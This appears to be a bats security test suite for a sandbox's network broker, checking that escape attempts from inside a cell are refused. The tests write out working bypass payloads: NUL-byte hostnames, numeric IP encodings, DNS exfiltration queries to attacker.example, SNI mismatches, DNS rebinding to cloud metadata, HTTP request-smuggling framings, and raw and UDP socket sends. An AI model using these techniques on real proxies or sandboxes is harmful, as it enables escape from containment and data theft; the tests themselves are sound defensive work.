#!/usr/bin/env bats
# Attacks on the filtered network: each tries a way past the broker's rules from inside a cell.

load ../integration/helpers
load ../integration/net-lib

setup() { net_setup; netprofile 'allow = ["upstream.test", "127.0.0.1/32"]'; }
teardown() { net_teardown; }

# py SCRIPT: runs a Python script inside the filtered cell.
py() {
	netcell python3 -c "$1"
}

@test "[NUL hostname] a NUL byte inside a SOCKS5 host name is refused (sandbox-runtime bypass)" {
	py "
import socket
s = socket.create_connection(('127.0.0.1', 1080), timeout=10)
s.sendall(b'\x05\x01\x00'); assert s.recv(2) == b'\x05\x00'
name = b'upstream.test\x00.evil.example'
s.sendall(b'\x05\x01\x00\x03' + bytes([len(name)]) + name + ($UP_PORT).to_bytes(2, 'big'))
rep = s.recv(10)
print('reply', rep[1])
s.sendall(b'GET / HTTP/1.0\r\n\r\n'); print(s.recv(100))
"
	[[ "$output" == *"reply 2"* ]]
	[[ "$output" != *"hello from upstream"* ]]
}

@test "[NUL hostname] a NUL byte in a CONNECT target is refused" {
	py "
import socket
s = socket.create_connection(('127.0.0.1', 3128), timeout=10)
s.sendall(b'CONNECT upstream.test\x00.evil.example:$UP_PORT HTTP/1.1\r\nHost: x\r\n\r\n')
print(s.recv(200).split(b'\r\n')[0].decode())
"
	[[ "$output" == "HTTP/1.1 400"* ]]
}

@test "[IP literal] a raw connect() to an IP is refused, with the rule that would allow it" {
	py "
import socket
s = socket.socket(); s.settimeout(10)
try:
    s.connect(('192.0.2.10', 80)); s.sendall(b'GET / HTTP/1.0\r\n\r\n'); print('got', s.recv(100))
except OSError as e:
    print('refused', e)
"
	[[ "$output" != *"got b'HTTP"* ]]
	[[ "$stderr" == *'refused 192.0.2.10:80: IP addresses are reached only through an explicit address rule'*'allow = ["192.0.2.10/32:80"]'* ]]
	events | grep '"via":"transparent"' | grep '"host":"192.0.2.10"' | grep -q deny
}

@test "[IP literal] CONNECT to an IP, or to a number that resolvers read as one, is refused" {
	netcell sh -c "curl -sS -m 10 -p http://192.0.2.10:80/; python3 -c '
import socket
for target in (b\"3221225994:80\", b\"0x7f.1:$UP_PORT\", b\"127.1:$UP_PORT\"):
    s = socket.create_connection((\"127.0.0.1\", 3128), timeout=10)
    s.sendall(b\"CONNECT \" + target + b\" HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n\")
    print(target.decode(), s.recv(100).split(b\"\\r\\n\")[0].decode())
'"
	[[ "$stderr" == *"refused 192.0.2.10:80"* ]]
	[[ "$stderr" == *"(56) CONNECT tunnel failed, response 403"* ]]
	[[ "$output" == *"3221225994:80 HTTP/1.1 400"* ]]
	[[ "$output" == *"0x7f.1:$UP_PORT HTTP/1.1 400"* ]]
	[[ "$output" == *"127.1:$UP_PORT HTTP/1.1 400"* ]]
	[[ "$output" != *"hello from upstream"* ]]
}

@test "[DNS exfiltration] names that carry data get NXDOMAIN and no query leaves the cell" {
	netcell sh -c '
		for q in "c2VjcmV0.attacker.example A" "c2VjcmV0.attacker.example TXT" "x.upstream.test.attacker.example AAAA"; do
			set -- $q; dig +time=2 +tries=1 "$1" "$2" | grep -o "status: [A-Z]*"
		done
		dig +time=2 +tries=1 @192.0.2.53 c2VjcmV0.attacker.example | grep -c "status:" || echo "outside resolver unreachable"
		dig +tcp +time=2 +tries=1 @192.0.2.53 c2VjcmV0.attacker.example | grep -c "status:" || echo "outside resolver unreachable over TCP"'
	[ "${lines[0]}" = "status: NXDOMAIN" ]
	[ "${lines[1]}" = "status: NXDOMAIN" ]
	[ "${lines[2]}" = "status: NXDOMAIN" ]
	[[ "$output" == *"outside resolver unreachable"* ]]
	[[ "$output" == *"outside resolver unreachable over TCP"* ]]
	events | grep '"via":"dns"' | grep -q 'c2vjcmv0.attacker.example'
}

@test "[SNI mismatch] a tunnel opened for an allowed host cannot carry TLS for another" {
	netcell sh -c "echo | timeout 10 openssl s_client -proxy 127.0.0.1:3128 -connect upstream.test:$UP_PORT -servername evil.example 2>&1 | head -5
		echo | timeout 10 openssl s_client -connect upstream.test:$UP_PORT -servername evil2.example 2>&1 | head -5
		curl -sS -m 10 -x socks5h://127.0.0.1:1080 --connect-to evil3.example:443:upstream.test:$UP_PORT https://evil3.example/ 2>&1 | head -2"
	[[ "$stderr" == *'the TLS server name "evil.example" does not match'* ]]
	# through the DNS stub's synthetic address (transparent capture) and through SOCKS5
	[[ "$stderr" == *'the TLS server name "evil2.example" does not match'* ]]
	[[ "$stderr" == *'the TLS server name "evil3.example" does not match'* ]]
	events | grep '"host":"upstream.test"' | grep -q '"decision":"deny"'
}

@test "[DNS rebinding] an allowed name that resolves to 127.0.0.1 is refused without an address rule" {
	netprofile 'allow = ["upstream.test"]'
	netcell sh -c "curl -sS -m 10 http://upstream.test:$UP_PORT/; curl -sS -m 10 -x socks5h://127.0.0.1:1080 http://upstream.test:$UP_PORT/; curl --noproxy '*' -sS -m 10 http://upstream.test:$UP_PORT/"
	[[ "$output" != *"hello from upstream"* ]]
	[ "$(echo "$stderr" | grep -c 'resolves to 127.0.0.1/32 (loopback)')" -eq 3 ]
	# ...and the same profile with the address rule reaches it: the refusal was the rule
	netprofile 'allow = ["upstream.test", "127.0.0.1/32"]'
	netcell curl -sS -m 10 "http://upstream.test:$UP_PORT/"
	[ "$output" = "hello from upstream" ]
}

@test "[DNS rebinding] an allowed name that resolves to the cloud metadata address is refused" {
	netprofile 'allow = ["meta.test", "lan.test", "v6.test", "*.test"]'
	netcell sh -c "curl -sS -m 10 http://meta.test/latest/meta-data/; curl -sS -m 10 http://lan.test/; curl -sS -m 10 http://v6.test/; curl -sS -m 10 -p http://169.254.169.254:80/"
	[[ "$stderr" == *"refused meta.test:80: it resolves to 169.254.169.254/32 (cloud metadata)"* ]]
	[[ "$stderr" == *"refused lan.test:80: it resolves to 10.0.0.7/32 (private)"* ]]
	[[ "$stderr" == *"refused v6.test:80: it resolves to ::1/128 (loopback)"* ]]
	[[ "$stderr" == *"refused 169.254.169.254:80"* ]]
}

@test "[request smuggling] ambiguous framing, folding and bare LF are rejected; pipelined requests are not followed" {
	py "
import socket
def ask(raw):
    s = socket.create_connection(('127.0.0.1', 3128), timeout=10)
    s.sendall(raw)
    data = b''
    try:
        while True:
            b = s.recv(4096)
            if not b: break
            data += b
    except ConnectionResetError: # the broker closed with part of an oversize head unread
        pass
    return data
u = b'http://upstream.test:$UP_PORT/'
for name, raw in [
    ('cl-te', b'POST ' + u + b' HTTP/1.1\r\nHost: upstream.test:$UP_PORT\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n'),
    ('cl-cl', b'POST ' + u + b' HTTP/1.1\r\nHost: upstream.test:$UP_PORT\r\nContent-Length: 4\r\nContent-Length: 5\r\n\r\nabcd'),
    ('te-obf', b'POST ' + u + b' HTTP/1.1\r\nHost: upstream.test:$UP_PORT\r\nTransfer-Encoding: chunked, identity\r\n\r\n'),
    ('fold', b'GET ' + u + b' HTTP/1.1\r\nHost: upstream.test:$UP_PORT\r\nX: a\r\n b\r\n\r\n'),
    ('bare-lf', b'GET ' + u + b' HTTP/1.1\nHost: upstream.test:$UP_PORT\n\n'),
    ('huge', b'GET ' + u + b' HTTP/1.1\r\nHost: upstream.test:$UP_PORT\r\nX: ' + b'a' * 20000 + b'\r\n\r\n'),
]:
    print(name, ask(raw).split(b'\r\n')[0].decode())
r = ask(b'GET ' + u + b' HTTP/1.1\r\nHost: upstream.test:$UP_PORT\r\nContent-Length: 0\r\n\r\nGET http://other.test/ HTTP/1.1\r\nHost: other.test\r\n\r\n')
print('pipelined', r.count(b'hello from upstream'), r.count(b'HTTP/1'))
"
	[[ "$output" == *"cl-te HTTP/1.1 400"* ]]
	[[ "$output" == *"cl-cl HTTP/1.1 400"* ]]
	[[ "$output" == *"te-obf HTTP/1.1 501"* ]]
	[[ "$output" == *"fold HTTP/1.1 400"* ]]
	[[ "$output" == *"bare-lf HTTP/1.1 400"* ]]
	[[ "$output" == *"huge HTTP/1.1 431"* ]]
	[[ "$output" == *"pipelined 1 1"* ]]
	[ -z "$(events | grep '"host":"other.test"')" ]
}

@test "[raw sockets] no raw or packet socket reaches outside the cell" {
	py "
import socket
for fam, typ, proto, dst in [(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, ('192.0.2.1', 0)),
                             (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP, ('192.0.2.1', 0)),
                             (socket.AF_PACKET, socket.SOCK_RAW, 0, None)]:
    try:
        s = socket.socket(fam, typ, proto)
    except OSError as e:
        print('no socket', e.errno); continue
    try:
        if dst: s.sendto(b'\x08\x00\xf7\xff\x00\x00\x00\x00', dst); print('SENT')
        else: print('SENT packet socket')
    except OSError as e:
        print('send refused', e.errno)
"
	[[ "$output" != *SENT* ]]
	[ "$(echo "$output" | grep -cE 'no socket|send refused')" -eq 3 ]
}

@test "[UDP] no UDP leaves the cell except DNS to the stub; no ICMP either" {
	py "
import socket
for dst in [('192.0.2.1', 53), ('8.8.8.8', 123), ('127.0.0.53', 53)]:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try: s.sendto(b'x' * 40, dst); print('sent', dst[0])
    except OSError as e: print('refused', dst[0], e.errno)
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    s.sendto(b'\x08\x00\xf7\xff\x00\x00\x00\x00', ('192.0.2.1', 0)); print('ICMP SENT')
except OSError as e:
    print('icmp refused', e.errno)
try:
    s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    s.sendto(b'x', ('2001:db8::1', 53)); print('sent v6')
except OSError as e:
    print('refused v6', e.errno)
"
	[[ "$output" == *"refused 192.0.2.1"* ]]
	[[ "$output" == *"refused 8.8.8.8"* ]]
	[[ "$output" == *"icmp refused"* ]]
	[[ "$output" == *"refused v6"* ]]
}

@test "[IPv6] TCP over IPv6 is captured and judged by the same rules" {
	py "
import socket
s = socket.socket(socket.AF_INET6); s.settimeout(10)
try:
    s.connect(('2001:db8::1', 443)); s.sendall(b'x'); d = s.recv(10); print('got data' if d else 'closed')
except OSError as e:
    print('refused', e)
"
	[[ "$output" != *"got data"* ]]
	[[ "$stderr" == *'refused [2001:db8::1]:443'*'allow = ["2001:db8::1/128:443"]'* ]]
}
